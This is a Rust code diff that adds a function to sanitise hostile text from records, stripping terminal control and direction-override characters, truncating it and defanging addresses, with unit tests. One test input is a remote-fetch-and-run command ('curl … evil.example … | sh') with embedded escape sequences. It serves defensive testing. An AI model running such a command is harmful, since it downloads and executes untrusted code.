@@ -5,6 +5,7 @@ use crate::case::{ContactRole, Fact, Lookup, LookupResult};
 use crate::reading::Reading;
 use crate::text::hosts::{HostRole, SeenHost};
 use crate::text::names::{Likeness, compare};
+use crate::verdict::defang;
 
 /// A public profile that the contact shows as their own, and what came of looking at it.
 #[derive(Debug, Clone)]
@@ -80,6 +81,21 @@ pub fn whole(host: &SeenHost) -> Fact<String> {
     host.host.map(host.url.clone().unwrap_or_else(|| host.host.value.clone()))
 }
 
+/// Words of a record as a claim may repeat them: whoever wrote them may be hostile, so marks that steer a terminal or turn
+/// the reading direction go, addresses cannot be clicked, and the end of what is long is left out.
+#[must_use]
+pub fn told(text: &str) -> String {
+    /// Most characters.
+    const LONGEST: usize = 120;
+    let steers = |c: char| {
+        c.is_control()
+            || matches!(c, '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2060}'..='\u{206f}' | '\u{feff}')
+    };
+    let plain: String = text.chars().filter(|c| !steers(*c)).take(LONGEST).collect();
+    let rest = if text.chars().count() > LONGEST { "…" } else { "" };
+    format!("{}{rest}", defang(&plain))
+}
+
 /// An address without scheme, `www.`, slash at its end and `.git`, in lower case: what two writings of it share.
 fn plain(address: &str) -> String {
     let lower = address.trim().to_lowercase();
@@ -119,4 +135,25 @@ fn called_own(reading: &Reading<'_>, host: &SeenHost) -> bool {
     let mine =
         |s: &crate::reading::Sentence| Some(s.message) == host.message && OWN.iter().any(|w| s.folded.contains(w));
     reading.case.role == ContactRole::Applicant || reading.sentences.iter().any(mine)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn what_a_record_says_is_told_without_its_teeth() {
+        assert_eq!(
+            told("curl https://evil.example/s\u{1b}[31m | sh\u{202e}"),
+            "curl hxxps://evil[.]example/s[31m | sh"
+        );
+        assert_eq!(told(&"가".repeat(500)).chars().count(), 121);
+    }
+
+    #[test]
+    fn writings_of_one_address() {
+        for written in ["https://www.GitHub.com/a/b/", "github.com/a/b.git", "http://github.com/a/b"] {
+            assert_eq!(plain(written), "github.com/a/b");
+        }
+    }
 }
